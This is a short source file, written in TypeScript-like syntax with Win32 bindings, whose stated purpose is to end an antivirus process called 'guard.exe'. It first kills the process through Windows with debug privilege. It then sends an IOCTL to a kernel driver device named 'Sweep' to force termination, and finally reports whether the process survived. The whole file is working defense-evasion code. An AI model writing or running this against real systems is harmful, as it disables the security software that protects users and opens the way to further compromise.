/* Tries to end the antivirus as a program does, and then by the driver. */
import {
  CTL_CODE,
  CloseHandle,
  CreateFile,
  CreateToolhelp32Snapshot,
  DWORD,
  DeviceIoControl,
  FALSE,
  FILE_ANY_ACCESS,
  FILE_DEVICE_UNKNOWN,
  GENERIC_READ,
  GENERIC_WRITE,
  INVALID_HANDLE_VALUE,
  METHOD_BUFFERED,
  OPEN_EXISTING,
  OpenProcess,
  PROCESSENTRY32W,
  PROCESS_TERMINATE,
  Process32First,
  Process32Next,
  RtlAdjustPrivilege,
  Sleep,
  TH32CS_SNAPPROCESS,
  TRUE,
  TerminateProcess,
  local,
  out,
  printf,
  sizeof,
} from 'win32'

const IOCTL_END = CTL_CODE(FILE_DEVICE_UNKNOWN, 0x800, METHOD_BUFFERED, FILE_ANY_ACCESS)

/** The id of guard.exe in the task list; 0 when it is not there. */
function find(): DWORD {
  const snapshot = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0)
  if (snapshot === INVALID_HANDLE_VALUE) return 0
  const entry = local(PROCESSENTRY32W)
  entry.dwSize = sizeof(PROCESSENTRY32W)
  let id: DWORD = 0
  let more = Process32First(snapshot, entry)
  while (more && id === 0) {
    // The names of the others here begin with other letters: 'g'.
    if (entry.szExeFile[0] === 0x67) id = entry.th32ProcessID
    more = Process32Next(snapshot, entry)
  }
  CloseHandle(snapshot)
  return id
}

/** End it as every program would, with all privileges that there are. */
function endByWindows(id: DWORD): void {
  // SeDebugPrivilege: an administrator may open what others own.
  RtlAdjustPrivilege(20, TRUE, FALSE, null)
  const process = OpenProcess(PROCESS_TERMINATE, FALSE, id)
  if (process === null) {
    printf('Windows: refused\n')
    return
  }
  printf('Windows: %s\n', TerminateProcess(process, 0) ? 'ended' : 'not ended')
  CloseHandle(process)
}

export function main(): number {
  const guard = find()
  if (guard === 0) return 1
  endByWindows(guard)
  const device = CreateFile(
    '\\\\.\\Sweep',
    GENERIC_READ | GENERIC_WRITE,
    0,
    null,
    OPEN_EXISTING,
    0,
    null,
  )
  if (device === INVALID_HANDLE_VALUE) return 2
  const id = local(DWORD)
  id[0] = guard
  const done = DeviceIoControl(device, IOCTL_END, id, 4, null, 0, out<DWORD>(), null)
  CloseHandle(device)
  printf('The driver: %s\n', done ? 'ended' : 'refused')
  // A process ends in its own threads: the next time that they would be in user mode.
  Sleep(1)
  printf('Task list: guard.exe is %s\n', find() === 0 ? 'not there' : 'there')
  return 0
}
